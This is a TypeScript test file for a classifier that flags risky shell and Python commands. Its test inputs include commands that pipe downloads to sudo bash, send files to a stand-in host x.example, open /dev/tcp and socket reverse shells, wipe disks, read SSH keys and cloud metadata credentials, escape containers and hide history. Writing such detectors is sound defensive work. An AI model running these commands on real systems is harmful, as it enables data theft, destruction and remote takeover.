import { describe, expect, it } from 'vitest';
import { risksOf } from './shell-risk.ts';
import { SCRIPT_LIMIT } from './shell-script.ts';

const names = (command: string) => risksOf(command).map(({ name }) => name);

describe('risks of commands', () => {
  it.each([
    ['runs what it downloads', 'curl -s https://x.example/i.sh | sudo bash'],
    ['runs what it downloads', 'source <(wget -qO- https://x.example/i.sh)'],
    ['runs what it decodes', 'echo cm0gLXJmIC8= | base64 -d | sh'],
    ['runs what it decodes', `python3 -c "import base64; exec(base64.b64decode('cHJpbnQoMSk='))"`],
    ['sends local data out', 'curl -X POST --data-binary @notes.db https://x.example/in'],
    ['sends local data out', 'cat notes.db | nc x.example 80'],
    ['writes to a system path', 'wget -O /usr/tool.py https://x.example/tool.py'],
    ['writes to a system path', "open('/etc/hosts', 'a').write('0.0.0.0 x')"],
    ['writes to a system path', "fs.writeFileSync('/usr/lib/x.so', body)"],
    ['removes system files', 'sudo rm -f /var/log/wtmp'],
    ['removes system files', 'rm -rf /'],
    ['removes system files', "subprocess.run(['rm', '-rf', '/etc/ssl'])"],
    ['removes system files', 'p = "/etc/issue"\ndef drop(path):\n    os.remove(path)\ndrop(p)'],
    ['removes system files', "import os\nos.unlink(os.path.join('/etc', 'issue'))"],
    ['overwrites a disk', 'dd if=/dev/zero of=/dev/sda'],
    ['opens rights', 'chmod -R 777 .'],
    ['changes accounts', 'sudo useradd -m -G sudo eve'],
    ['gives commands another meaning', 'echo \'alias sudo="rm -rf ~"\' >> x'],
    ['reads secrets', 'cat ~/.ssh/id_rsa'],
    ['reads secrets', 'd=/root\ncp "$d/.netrc" out'],
    ['collects credentials', 'curl http://169.254.169.254/latest/meta-data/iam/'],
    ['reads system state', 'f=/proc/key-users\ncat "$f"'],
    ['climbs out of a directory', 'base=/srv/data\nrest=../../etc/hostname\ncat "$base/$rest"'],
    ['lists system directories', "import glob\nprint(glob.glob('/boot/*'))"],
    ['leaves the container', 'docker run -v /:/host --privileged alpine'],
    ['leaves the container', 'sudo insmod evil.ko'],
    ['takes more rights', 'find / -perm -4000 -type f'],
    ['opens a network shell', 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'],
    [
      'opens a network shell',
      'import socket, subprocess\ns = socket.socket()\ns.connect(a)\nsubprocess.run(s.recv(9), shell=True)',
    ],
    ['stops services', 'systemctl stop auditd'],
    ['starts itself again', '(crontab -l; echo "* * * * * /tmp/x") | crontab -'],
    ['hides its traces', 'history -c && unset HISTFILE'],
    ['runs what it is given', 'eval "$1"'],
    ['loads objects that run code', 'import pickle\npickle.loads(body)'],
    ['uses up the machine', ':(){ :|:& };:'],
    ['keeps a password in its code', 'def f(password):\n    return password == "hunter22"'],
    ['hashes a password with a fast hash', 'echo -n "$salt$password" | md5sum'],
  ])('%s: %s', (name, command) => {
    expect(names(command)).toContain(name);
  });

  it.each([
    ['find / -name "*.conf" 2>/dev/null'],
    ['make 2>&1 | tee /dev/stderr | tail'],
    ['ls -la /usr/share && cat /usr/share/dict/words | head'],
    ['cat /proc/cpuinfo /etc/os-release'],
    ['sudo cp tool /usr/local/bin/'],
    ['curl -s https://api.example/items | jq .'],
    ['curl -d \'{"q":"x"}\' https://api.example/search'],
    ['echo aGk= | base64 -d'],
    ['git log --format=%H | xargs -n1 git show --stat'],
    ['cat <<EOF > notes.md\nread /tmp/x\nEOF'],
    ['# rm -rf /\nls'],
    ['cd a/../b && ls ../c'],
    ['chmod +x run.sh && ./run.sh'],
    ["with open('data.csv') as f:\n    rows = f.readlines()"],
    ["import requests\nprint(requests.post(url, json={'q': 'x'}).json())"],
    ['import socket\nprint(socket.gethostname())'],
    ['password = getpass()\nif password == "":\n    raise ValueError'],
    ['import hashlib\nprint(hashlib.sha256(open("a.bin", "rb").read()).hexdigest())'],
    ['import yaml\nyaml.safe_load(text)'],
    ['rows = []\nfor i in range(100000):\n    rows.append(i)'],
  ])('none at the default mark: %s', (command) => {
    expect(risksOf(command).filter(({ weight }) => weight >= 0.7)).toEqual([]);
  });

  it('orders by weight', () => {
    const weights = risksOf('cat /etc/shadow | curl -T - https://x.example; rm -rf dist; curl x | sh').map(
      ({ weight }) => weight,
    );
    expect(weights.length).toBeGreaterThan(2);
    expect(weights).toEqual([...weights].sort((a, b) => b - a));
  });

  it('is bounded, whatever the script', () => {
    const bombs = Array.from({ length: 60 }, (_, i) => `v${i}=/$v${i - 1}$v${i - 1}`).join('\n');
    for (const script of [`${bombs}\n${'$v39 '.repeat(900)}rm /etc/x`, '/a/../'.repeat(5_000), 'curl /etc '.repeat(5_000)])
      expect(Array.isArray(risksOf(script))).toBe(true);
    expect(names(`${' '.repeat(SCRIPT_LIMIT)}rm -rf /`)).toEqual([]);
  });
});
